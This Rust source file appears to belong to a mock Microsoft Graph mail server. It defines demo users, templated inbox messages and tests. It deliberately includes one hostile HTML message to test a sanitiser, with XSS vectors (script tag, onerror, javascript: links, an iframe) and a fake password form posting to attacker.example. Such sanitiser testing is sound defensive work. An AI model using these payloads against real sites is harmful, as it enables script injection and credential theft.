//! The demo users and their mailboxes.
//!
//! What it owns: the fixed list of demo accounts (all with the password
//! `demo`) and the deterministic generation of each user's mail from a small
//! table of templates. It must not know about HTTP or Graph's JSON shape;
//! `graph.rs` turns these records into Graph responses.
//!
//! Messages are generated once at start, with received times counted back from
//! the start time, so the mailbox always looks fresh. Every user gets one
//! hostile HTML message on purpose (script, event handlers, `javascript:` link,
//! iframe) so that the app's HTML sanitiser is visibly exercised.

use std::collections::HashMap;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use chrono::{DateTime, Duration, Utc};

use crate::crypto::sha256_url_safe;

/// Every demo account's password. It is a demo: the sign-in page says so.
pub(crate) const DEMO_PASSWORD: &str = "demo";

/// One demo account.
#[derive(Debug)]
pub(crate) struct DemoUser {
    /// What the user types on the sign-in page.
    pub(crate) username: &'static str,
    /// Stable identifier: the ID token's `sub` and the Graph user `id`.
    pub(crate) id: &'static str,
    pub(crate) display_name: &'static str,
    pub(crate) given_name: &'static str,
    pub(crate) family_name: &'static str,
    /// Mail address, also the user principal name and `preferred_username`.
    pub(crate) email: &'static str,
    pub(crate) job_title: &'static str,
    pub(crate) office_location: Option<&'static str>,
    pub(crate) mobile_phone: Option<&'static str>,
    pub(crate) business_phones: &'static [&'static str],
    pub(crate) preferred_language: &'static str,
    /// A profile photo (PNG bytes), as `/me/photo/$value` returns it.
    pub(crate) photo_png: Option<&'static [u8]>,
}

/// The demo accounts. Only alice has a photo, so the app sees both cases.
/// bob and carol leave some Graph properties null, as real directories do.
pub(crate) const DEMO_USERS: [DemoUser; 3] = [
    DemoUser {
        username: "alice",
        id: "4c1f8a7e-2b3d-4e5f-8a9b-0c1d2e3f4a51",
        display_name: "Alice Adams",
        given_name: "Alice",
        family_name: "Adams",
        email: "alice@demo.example",
        job_title: "Product Manager",
        office_location: Some("Building 2, room 3.14"),
        mobile_phone: Some("+1 206 555 0101"),
        business_phones: &["+1 206 555 0100"],
        preferred_language: "en-US",
        photo_png: Some(include_bytes!("alice_photo.png")),
    },
    DemoUser {
        username: "bob",
        id: "7d2e9b40-5c6a-4b1e-9f3d-2a8c6e4b7f02",
        display_name: "Bob Baker",
        given_name: "Bob",
        family_name: "Baker",
        email: "bob@demo.example",
        job_title: "Site Reliability Engineer",
        office_location: Some("Remote"),
        mobile_phone: None,
        business_phones: &[],
        preferred_language: "en-GB",
        photo_png: None,
    },
    DemoUser {
        username: "carol",
        id: "b5a3c2d1-8e7f-4a6b-9c0d-1e2f3a4b5c63",
        display_name: "Carol Chen",
        given_name: "Carol",
        family_name: "Chen",
        email: "carol@demo.example",
        job_title: "Security Analyst",
        office_location: None,
        mobile_phone: Some("+1 206 555 0123"),
        business_phones: &["+1 206 555 0120"],
        preferred_language: "en-US",
        photo_png: None,
    },
];

/// Finds a demo user by the name typed on the sign-in page (case-insensitive,
/// surrounding spaces ignored, since people type names that way).
pub(crate) fn find_user(username: &str) -> Option<&'static DemoUser> {
    let wanted = username.trim();
    DEMO_USERS
        .iter()
        .find(|user| user.username.eq_ignore_ascii_case(wanted))
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct EmailAddress {
    pub(crate) name: String,
    pub(crate) address: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum BodyType {
    Html,
    Text,
}

#[derive(Debug, Clone)]
pub(crate) struct MessageBody {
    pub(crate) content_type: BodyType,
    pub(crate) content: String,
}

/// One message, with the data Graph's `message` resource exposes.
#[derive(Debug, Clone)]
pub(crate) struct Message {
    pub(crate) id: String,
    pub(crate) change_key: String,
    pub(crate) conversation_id: String,
    pub(crate) parent_folder_id: String,
    pub(crate) internet_message_id: String,
    pub(crate) subject: String,
    pub(crate) body: MessageBody,
    /// The first 255 characters of the body as plain text.
    pub(crate) body_preview: String,
    pub(crate) created: DateTime<Utc>,
    pub(crate) last_modified: DateTime<Utc>,
    pub(crate) received: DateTime<Utc>,
    pub(crate) sent: DateTime<Utc>,
    pub(crate) from: EmailAddress,
    pub(crate) to: Vec<EmailAddress>,
    pub(crate) cc: Vec<EmailAddress>,
    pub(crate) is_read: bool,
    pub(crate) has_attachments: bool,
    pub(crate) importance: &'static str,
}

/// Every user's messages, newest first.
#[derive(Debug)]
pub(crate) struct Mailboxes {
    by_username: HashMap<&'static str, Vec<Message>>,
}

/// How many messages each demo user has: enough for several pages.
pub(crate) const MESSAGES_PER_USER: usize = 45;
/// Gap between consecutive messages (3 h 37 min), plus some jitter below.
const MESSAGE_INTERVAL_SECONDS: i64 = 3 * 3600 + 37 * 60;
/// Position of the hostile message: on the first page, below two normal ones.
const HOSTILE_MESSAGE_INDEX: usize = 2;

impl Mailboxes {
    pub(crate) fn generate(start: DateTime<Utc>) -> Self {
        let by_username = DEMO_USERS
            .iter()
            .enumerate()
            .map(|(user_index, user)| (user.username, generate_mailbox(user, user_index, start)))
            .collect();
        Self { by_username }
    }

    /// The user's messages, newest first.
    pub(crate) fn messages_of(&self, username: &str) -> &[Message] {
        self.by_username
            .get(username)
            .map(Vec::as_slice)
            .unwrap_or_default()
    }
}

type Person = (&'static str, &'static str);

#[derive(Clone, Copy)]
enum TemplateBody {
    Html(&'static str),
    Text(&'static str),
}

/// A message pattern. `{first}`, `{n}`, `{weekday}`, `{project}`, `{city}`,
/// `{service}`, `{topic}`, `{amount}` and `{quarter}` are filled in per message.
struct Template {
    from: Person,
    subject: &'static str,
    body: TemplateBody,
    importance: &'static str,
    has_attachments: bool,
    cc: &'static [Person],
    /// `None`: everyone gets it; otherwise only this username.
    only_for: Option<&'static str>,
}

const fn template(from: Person, subject: &'static str, body: TemplateBody) -> Template {
    Template {
        from,
        subject,
        body,
        importance: "normal",
        has_attachments: false,
        cc: &[],
        only_for: None,
    }
}

const PRIYA: Person = ("Priya Natarajan", "priya.natarajan@demo.example");
const MARCUS: Person = ("Marcus Webb", "marcus.webb@demo.example");
const HANA: Person = ("Hana Kobayashi", "hana.kobayashi@demo.example");
const SOFIA: Person = ("Sofia Reyes", "sofia.reyes@demo.example");

use TemplateBody::{Html, Text};

const TEMPLATES: &[Template] = &[
    Template {
        cc: &[MARCUS, SOFIA],
        ..template(
            PRIYA,
            "Notes from {weekday}'s {project} planning meeting",
            Html(
                "<p>Hi all,</p>\n<p>Thanks for a focused session. The short version:</p>\n<ul>\n<li><b>Scope:</b> we ship the {project} beta without offline mode.</li>\n<li><b>Owner for rollout:</b> Sofia.</li>\n<li><b>Open question:</b> do we need a feature flag per region?</li>\n</ul>\n<p>Action items are in the <a href=\"https://wiki.demo.example/{project}/planning\">planning page</a>. Shout if I missed anything.</p>\n<p>Priya</p>",
            ),
        )
    },
    Template {
        has_attachments: true,
        ..template(
            ("Cloudhost Billing", "billing@cloudhost.example"),
            "Invoice INV-{n} is ready",
            Html(
                "<h2>Your invoice is ready</h2>\n<table border=\"1\" cellpadding=\"4\">\n<tr><th>Item</th><th>Amount</th></tr>\n<tr><td>Compute (740 hours)</td><td>${amount}</td></tr>\n<tr><td>Object storage</td><td>$12.40</td></tr>\n<tr><td><b>Total due</b></td><td><b>see PDF</b></td></tr>\n</table>\n<p>The PDF is attached. Payment is taken automatically on the 1st.</p>",
            ),
        )
    },
    template(
        ("The Weekly Byte", "newsletter@weeklybyte.example"),
        "The Weekly Byte #{n}: {topic}",
        Html(
            "<h1>The Weekly Byte</h1>\n<p>This week: <b>{topic}</b>.</p>\n<ol>\n<li><a href=\"https://weeklybyte.example/articles/{n}\">Read the feature article</a></li>\n<li>Reader question: \"Is it ever fine to skip input validation?\" (No.)</li>\n<li>Tool of the week: a linter that explains itself.</li>\n</ol>\n<p style=\"color:#666\">You get this because you subscribed. <a href=\"https://weeklybyte.example/unsubscribe\">Unsubscribe</a>.</p>",
        ),
    ),
    Template {
        importance: "high",
        ..template(
            ("CI", "ci@builds.demo.example"),
            "Build #{n} failed on main ({project})",
            Text(
                "Build #{n} of {project} failed on branch main.\n\nFailed step: test\n  error[E0308]: mismatched types\n   --> src/orders/total.rs:42:17\n\nTriggered by: merge of pull request #{n}\nLogs: https://builds.demo.example/{project}/{n}\n\nYou are receiving this because you are on the {project} notification list.",
            ),
        )
    },
    template(
        ("Travel Desk", "travel@demo.example"),
        "Your trip to {city} is confirmed",
        Html(
            "<p>Hello {first},</p>\n<p>Your booking <b>TRV-{n}</b> is confirmed.</p>\n<table>\n<tr><td>Outbound</td><td>{weekday}, 08:45</td></tr>\n<tr><td>Hotel</td><td>Harbour View, {city} (3 nights)</td></tr>\n<tr><td>Return</td><td>Friday, 18:20</td></tr>\n</table>\n<p>Remember to file receipts within 30 days.</p>",
        ),
    ),
    template(
        ("People Team", "people@demo.example"),
        "Reminder: benefits enrolment closes {weekday}",
        Text(
            "Hi {first},\n\nA quick reminder that benefits enrolment for next year closes on {weekday} at 17:00.\nIf you change nothing, your current choices carry over.\n\nQuestions? Reply to this message or join the drop-in session on Thursday.\n\nThe People Team",
        ),
    ),
    template(
        MARCUS,
        "Lunch {weekday}?",
        Text(
            "Hey {first},\n\nThere's a new ramen place near the station. Lunch on {weekday}, 12:30?\n\nMarcus",
        ),
    ),
    template(
        ("IT Service Desk", "servicedesk@demo.example"),
        "Scheduled maintenance: VPN on {weekday} evening",
        Html(
            "<p>The VPN will be unavailable on <b>{weekday} from 20:00 to 22:00</b> while we upgrade the gateways.</p>\n<p>Nothing to do on your side. Status updates: <a href=\"https://status.demo.example\">status.demo.example</a>.</p>\n<p>Ticket: IT-{n}</p>",
        ),
    ),
    template(
        SOFIA,
        "Accepted: {project} design review",
        Text(
            "Sofia Reyes has accepted your meeting request.\n\n{project} design review\n{weekday}, 14:00-15:00\nRoom: Fjord",
        ),
    ),
    template(
        ("Shared Drive", "drive-noreply@demo.example"),
        "Sofia shared \"{project} roadmap\" with you",
        Html(
            "<p><b>Sofia Reyes</b> shared a document with you.</p>\n<p><a href=\"https://drive.demo.example/d/{n}\">{project} roadmap</a></p>\n<p>\"Can you add the Q{quarter} milestones before Friday?\"</p>",
        ),
    ),
    template(
        ("Account Security", "security-noreply@demo.example"),
        "New sign-in to your account from {city}",
        Html(
            "<p>We noticed a new sign-in to your account.</p>\n<ul>\n<li>Where: near {city}</li>\n<li>When: {weekday}</li>\n<li>Device: Firefox on Linux</li>\n</ul>\n<p>If this was you, you can ignore this message. If not, <a href=\"https://account.demo.example/security\">review your account</a>.</p>",
        ),
    ),
    template(
        ("Expenses", "expenses@demo.example"),
        "Expense report #{n} approved",
        Text(
            "Your expense report #{n} (${amount}) was approved and will be paid with the next payroll.\n\nNo action needed.",
        ),
    ),
    Template {
        has_attachments: true,
        ..template(
            HANA,
            "Draft: {project} one-pager for feedback",
            Html(
                "<p>Hi {first},</p>\n<p>Attached is a first draft of the {project} one-pager. I'd love your eyes on:</p>\n<ol><li>the problem statement (too long?)</li><li>the success metrics</li></ol>\n<p><i>No rush</i>, end of next week is fine.</p>\n<p>Thanks!<br>Hana</p>",
            ),
        )
    },
    template(
        ("Facilities", "facilities@demo.example"),
        "Fire drill on {weekday} at 10:30",
        Text(
            "There will be a fire drill on {weekday} at 10:30. Please leave by the nearest exit and gather at the car park.\n\nIt takes about 15 minutes.",
        ),
    ),
    Template {
        importance: "low",
        ..template(
            ("Learning", "learning@demo.example"),
            "Course reminder: {topic}",
            Html(
                "<p>You signed up for <b>{topic}</b>.</p>\n<p>The next live session is on {weekday}. <a href=\"https://learn.demo.example/courses/{n}\">Open the course</a>.</p>",
            ),
        )
    },
    template(
        ("Diego Ramos", "diego.ramos@example.org"),
        "Speaking at our meetup in {city}?",
        Text(
            "Hello {first},\n\nI run a small developer meetup in {city}. Would you be up for a 20-minute talk next month? Topic is up to you; something like \"{topic}\" would go down well.\n\nBest,\nDiego",
        ),
    ),
    template(
        ("Parcel Tracking", "tracking@parcels.example"),
        "Your parcel {n} is out for delivery",
        Html(
            "<p>Good news! Parcel <b>{n}</b> is out for delivery today.</p>\n<p>Estimated window: 13:00-15:00. <a href=\"https://parcels.example/track/{n}\">Track it</a>.</p>",
        ),
    ),
    template(
        ("Code Review", "reviews@git.demo.example"),
        "[{project}] Pull request #{n}: tidy up error handling",
        Text(
            "Marcus Webb requested your review on pull request #{n}.\n\n  tidy up error handling\n  12 files changed, 240 insertions(+), 310 deletions(-)\n\nView it at https://git.demo.example/{project}/pulls/{n}",
        ),
    ),
    Template {
        has_attachments: true,
        ..template(
            ("Finance", "finance@demo.example"),
            "Q{quarter} budget numbers",
            Html(
                "<p>Hi {first}, here are the Q{quarter} numbers for your team:</p>\n<table border=\"1\">\n<tr><th>Line</th><th>Plan</th><th>Actual</th></tr>\n<tr><td>Travel</td><td>$8,000</td><td>${amount}</td></tr>\n<tr><td>Software</td><td>$12,500</td><td>$11,980</td></tr>\n</table>\n<p>The full spreadsheet is attached.</p>",
            ),
        )
    },
    template(
        ("Team Social", "social@demo.example"),
        "Friday social: board games 🎲",
        Html(
            "<p>This Friday from 17:00 we're playing board games in the kitchen. Snacks provided!</p>\n<p>Bring a game if you have a favourite.</p>",
        ),
    ),
    template(
        ("Recruiting", "recruiting@demo.example"),
        "Interview feedback needed: candidate {n}",
        Text(
            "Hi {first},\n\nThanks for interviewing candidate {n} on {weekday}. Please submit your feedback in the hiring tool within 24 hours.\n\nRecruiting",
        ),
    ),
    Template {
        only_for: Some("alice"),
        ..template(
            ("Support Insights", "insights@support.demo.example"),
            "Customer feedback digest for {project}",
            Html(
                "<h2>Top themes this week</h2>\n<ol>\n<li><b>Export to CSV</b> (31 requests)</li>\n<li>Dark mode (18)</li>\n<li>Faster search (9)</li>\n</ol>\n<blockquote>\"I love {project}, but I need my data in a spreadsheet.\"</blockquote>",
            ),
        )
    },
    Template {
        only_for: Some("bob"),
        importance: "high",
        ..template(
            ("Monitoring", "alerts@oncall.demo.example"),
            "[FIRING] Disk usage above 90% on {service}",
            Text(
                "Alert: DiskUsageHigh\nService: {service}\nValue: 93%\nSince: {weekday}\n\nRunbook: https://runbooks.demo.example/disk-usage",
            ),
        )
    },
    Template {
        only_for: Some("bob"),
        ..template(
            PRIYA,
            "Postmortem draft: {service} outage",
            Html(
                "<p>Bob, thanks for leading the incident. Draft postmortem below.</p>\n<h3>Timeline</h3>\n<ul><li>09:02 alerts fire</li><li>09:15 rollback started</li><li>09:31 recovered</li></ul>\n<h3>Root cause</h3>\n<p>A config change removed the connection limit on {service}.</p>",
            ),
        )
    },
    Template {
        only_for: Some("carol"),
        ..template(
            ("Phishing Reports", "phish-report@demo.example"),
            "Phishing report #{n}: \"Your mailbox is full\"",
            Text(
                "A user reported a suspicious message.\n\nSubject: Your mailbox is full\nSender: it-support@mai1box.example\nLinks: 1 (credential harvesting page)\n\nTriage it at https://soc.demo.example/reports/{n}",
            ),
        )
    },
    Template {
        only_for: Some("carol"),
        has_attachments: true,
        ..template(
            ("Vulnerability Scanner", "scanner@soc.demo.example"),
            "Scan results for {service}: 2 high, 5 medium",
            Html(
                "<p>The weekly scan of <b>{service}</b> finished.</p>\n<table border=\"1\"><tr><th>Severity</th><th>Count</th></tr><tr><td>High</td><td>2</td></tr><tr><td>Medium</td><td>5</td></tr><tr><td>Low</td><td>11</td></tr></table>\n<p>The full report is attached.</p>",
            ),
        )
    },
];

/// The deliberately hostile message. Its HTML tries every classic way of
/// running script; an app that shows mail must neutralise all of them.
const HOSTILE_MESSAGE: Template = Template {
    importance: "high",
    ..template(
        ("Red Team Exercise", "redteam@attacker.example"),
        "Security check: this message tries to run script",
        Html(
            "<p>This message is a <b>deliberate test</b> of the app's HTML sanitiser. If you can read it without seeing an alert box, the sanitiser did its job.</p>\n<script>alert('xss')</script>\n<p><img src=x onerror=\"alert(1)\"> An image whose error handler runs script.</p>\n<p><a href=\"javascript:alert(1)\">A link that runs script when clicked</a></p>\n<iframe src=\"https://attacker.example/frame\"></iframe>\n<p onclick=\"alert(2)\" style=\"background:url(javascript:alert(3))\">A paragraph with an onclick handler.</p>\n<form action=\"https://attacker.example/steal\"><input name=\"password\" placeholder=\"Re-enter your password\"></form>",
        ),
    )
};

const PROJECTS: [&str; 6] = [
    "Atlas",
    "Bluebird",
    "Cobalt",
    "Driftwood",
    "Ember",
    "Foxglove",
];
const CITIES: [&str; 7] = [
    "Lisbon",
    "Toronto",
    "Osaka",
    "Nairobi",
    "Edinburgh",
    "Melbourne",
    "Valparaíso",
];
const SERVICES: [&str; 5] = [
    "checkout-api",
    "search-indexer",
    "auth-gateway",
    "billing-worker",
    "media-cdn",
];
const TOPICS: [&str; 6] = [
    "Rust 2024 edition tips",
    "Why PKCE matters",
    "Postgres vacuum, explained",
    "Accessible forms",
    "Designing for offline",
    "Zero-downtime deploys",
];

fn generate_mailbox(user: &DemoUser, user_index: usize, start: DateTime<Utc>) -> Vec<Message> {
    let templates: Vec<(usize, &Template)> = TEMPLATES
        .iter()
        .enumerate()
        .filter(|(_, template)| template.only_for.is_none_or(|only| only == user.username))
        .collect();
    let order = shuffled_indices(templates.len(), user_index as u64 + 1);
    (0..MESSAGES_PER_USER)
        .map(|index| {
            let (template_number, template) = if index == HOSTILE_MESSAGE_INDEX {
                (TEMPLATES.len(), &HOSTILE_MESSAGE)
            } else {
                templates[order[index % order.len()]]
            };
            build_message(user, user_index, index, template_number, template, start)
        })
        .collect()
}

fn build_message(
    user: &DemoUser,
    user_index: usize,
    index: usize,
    template_number: usize,
    template: &Template,
    start: DateTime<Utc>,
) -> Message {
    // Newest first: message 0 arrived a few minutes before start.
    let jitter = ((index * index * 97 + user_index * 131) % 1500) as i64;
    let received = start
        - Duration::minutes(7)
        - Duration::seconds(MESSAGE_INTERVAL_SECONDS * index as i64 + jitter);
    let sent = received - Duration::seconds(2 + (index % 40) as i64);

    let fill = |text: &str| fill_placeholders(text, user, user_index, index, received);
    let body = match template.body {
        Html(fragment) => MessageBody {
            content_type: BodyType::Html,
            // Graph returns a whole HTML document with CRLF line ends.
            content: crlf(&format!(
                "<html>\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n</head>\n<body>\n{}\n</body>\n</html>\n",
                fill(fragment)
            )),
        },
        Text(text) => MessageBody {
            content_type: BodyType::Text,
            content: crlf(&fill(text)),
        },
    };
    let body_preview = preview(&match body.content_type {
        BodyType::Html => html_to_text(&body.content),
        BodyType::Text => body.content.clone(),
    });

    let id = format!(
        "AAMkAD{}",
        URL_SAFE_NO_PAD.encode(format!("{}/message/{index:03}", user.username))
    );
    let change_key = format!("CQAAABYAAAD{}", &sha256_url_safe(&id)[..16]);
    Message {
        internet_message_id: format!("<{}@mail.demo.example>", &sha256_url_safe(&id)[..24]),
        conversation_id: format!(
            "AAQkAD{}",
            URL_SAFE_NO_PAD.encode(format!("{}/conversation/{template_number}", user.username))
        ),
        parent_folder_id: format!(
            "AAMkAD{}",
            URL_SAFE_NO_PAD.encode(format!("{}/folder/inbox", user.username))
        ),
        id,
        change_key,
        subject: fill(template.subject),
        body,
        body_preview,
        created: received,
        last_modified: received + Duration::seconds(3),
        received,
        sent,
        from: person(template.from),
        to: vec![EmailAddress {
            name: user.display_name.to_owned(),
            address: user.email.to_owned(),
        }],
        cc: template.cc.iter().copied().map(person).collect(),
        // About one in four is unread, including the newest.
        is_read: !index.is_multiple_of(4),
        has_attachments: template.has_attachments,
        importance: template.importance,
    }
}

fn person((name, address): Person) -> EmailAddress {
    EmailAddress {
        name: name.to_owned(),
        address: address.to_owned(),
    }
}

fn fill_placeholders(
    text: &str,
    user: &DemoUser,
    user_index: usize,
    index: usize,
    received: DateTime<Utc>,
) -> String {
    let pick = |len: usize| (index * 5 + user_index * 3) % len;
    let number = 4000 + user_index * 1000 + index * 13;
    let amount = format!("{}.{:02}", 40 + (index * 37) % 900, (index * 53) % 100);
    text.replace("{first}", user.given_name)
        .replace("{n}", &number.to_string())
        .replace("{weekday}", &received.format("%A").to_string())
        .replace("{project}", PROJECTS[pick(PROJECTS.len())])
        .replace("{city}", CITIES[pick(CITIES.len())])
        .replace("{service}", SERVICES[pick(SERVICES.len())])
        .replace("{topic}", TOPICS[pick(TOPICS.len())])
        .replace("{amount}", &amount)
        .replace("{quarter}", &(1 + index % 4).to_string())
}

/// A fixed permutation of `0..len` (Fisher–Yates with a tiny linear
/// congruential generator), so each user's mail comes in a different order but
/// the same order on every start.
fn shuffled_indices(len: usize, seed: u64) -> Vec<usize> {
    let mut indices: Vec<usize> = (0..len).collect();
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15);
    for i in (1..len).rev() {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        let j = ((state >> 33) as usize) % (i + 1);
        indices.swap(i, j);
    }
    indices
}

fn crlf(text: &str) -> String {
    text.replace('\n', "\r\n")
}

/// Graph's `bodyPreview`: the start of the text, at most 255 characters.
fn preview(text: &str) -> String {
    text.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .take(255)
        .collect::<String>()
        .trim_end()
        .to_owned()
}

/// A rough HTML-to-text conversion, for `bodyPreview` and for
/// `Prefer: outlook.body-content-type="text"`. It drops tags and the contents
/// of `script`, `style` and `head`, and turns block ends into line breaks.
/// It is not a sanitiser and its output is text, never HTML.
pub(crate) fn html_to_text(html: &str) -> String {
    let mut text = String::with_capacity(html.len());
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        text.push_str(&rest[..open]);
        let after_open = &rest[open + 1..];
        let Some(close) = after_open.find('>') else {
            // A stray `<` with no end: keep it as text.
            text.push('<');
            rest = after_open;
            continue;
        };
        let tag = &after_open[..close];
        rest = &after_open[close + 1..];
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        let is_end_tag = tag.starts_with('/');
        if !is_end_tag && matches!(name.as_str(), "script" | "style" | "head") {
            // Skip everything up to the matching end tag.
            let end_tag = format!("</{name}");
            match rest.to_ascii_lowercase().find(&end_tag) {
                Some(end) => {
                    let after_end = &rest[end..];
                    rest = after_end.find('>').map_or("", |gt| &after_end[gt + 1..]);
                }
                None => rest = "",
            }
            continue;
        }
        match name.as_str() {
            "br" | "p" | "div" | "tr" | "li" | "h1" | "h2" | "h3" | "h4" | "table" | "ul"
            | "ol" | "blockquote" => text.push('\n'),
            "td" | "th" => text.push(' '),
            _ => {}
        }
    }
    text.push_str(rest);
    decode_basic_entities(&text)
}

fn decode_basic_entities(text: &str) -> String {
    text.replace("&nbsp;", " ")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn start() -> DateTime<Utc> {
        DateTime::<Utc>::UNIX_EPOCH + Duration::days(20_000)
    }

    #[test]
    fn every_user_has_many_varied_messages_newest_first() {
        let mailboxes = Mailboxes::generate(start());
        for user in &DEMO_USERS {
            let messages = mailboxes.messages_of(user.username);
            assert!(messages.len() >= 40);
            assert!(messages.windows(2).all(|w| w[0].received > w[1].received));
            let subjects: std::collections::HashSet<_> =
                messages.iter().map(|m| &m.subject).collect();
            assert!(
                subjects.len() >= 30,
                "{} has varied subjects",
                user.username
            );
            let unread = messages.iter().filter(|m| !m.is_read).count();
            assert!((8..=15).contains(&unread), "about a quarter unread");
            assert!(messages.iter().any(|m| m.has_attachments));
            assert!(
                messages
                    .iter()
                    .any(|m| m.body.content_type == BodyType::Text)
            );
            let ids: std::collections::HashSet<_> = messages.iter().map(|m| &m.id).collect();
            assert_eq!(ids.len(), messages.len(), "ids are unique");
        }
    }

    #[test]
    fn generation_is_deterministic_for_the_same_start() {
        let a = Mailboxes::generate(start());
        let b = Mailboxes::generate(start());
        let first = &a.messages_of("bob")[5];
        let second = &b.messages_of("bob")[5];
        assert_eq!(first.id, second.id);
        assert_eq!(first.subject, second.subject);
        assert_eq!(first.body.content, second.body.content);
    }

    #[test]
    fn each_mailbox_holds_the_hostile_message_on_its_first_page() {
        let mailboxes = Mailboxes::generate(start());
        let hostile = &mailboxes.messages_of("carol")[HOSTILE_MESSAGE_INDEX];
        assert!(hostile.subject.starts_with("Security check"));
        for needle in [
            "<script>alert('xss')</script>",
            "onerror=\"alert(1)\"",
            "href=\"javascript:alert(1)\"",
            "<iframe",
        ] {
            assert!(hostile.body.content.contains(needle), "{needle}");
        }
        assert!(!hostile.body_preview.contains("alert('xss')"));
    }

    #[test]
    fn no_placeholder_is_left_unfilled() {
        let mailboxes = Mailboxes::generate(start());
        for user in &DEMO_USERS {
            for message in mailboxes.messages_of(user.username) {
                let all = format!("{} {}", message.subject, message.body.content);
                assert!(!all.contains('{'), "{all}");
            }
        }
    }

    #[test]
    fn html_to_text_drops_tags_scripts_and_decodes_entities() {
        let text = html_to_text(
            "<html><head><title>t</title></head><body><p>Fish &amp; chips</p><script>alert(1)</script><b>ok</b></body></html>",
        );
        assert_eq!(
            text.split_whitespace().collect::<Vec<_>>(),
            ["Fish", "&", "chips", "ok"]
        );
    }

    #[test]
    fn users_are_found_case_insensitively() {
        assert_eq!(find_user(" Alice ").map(|u| u.id), Some(DEMO_USERS[0].id));
        assert!(find_user("mallory").is_none());
    }
}
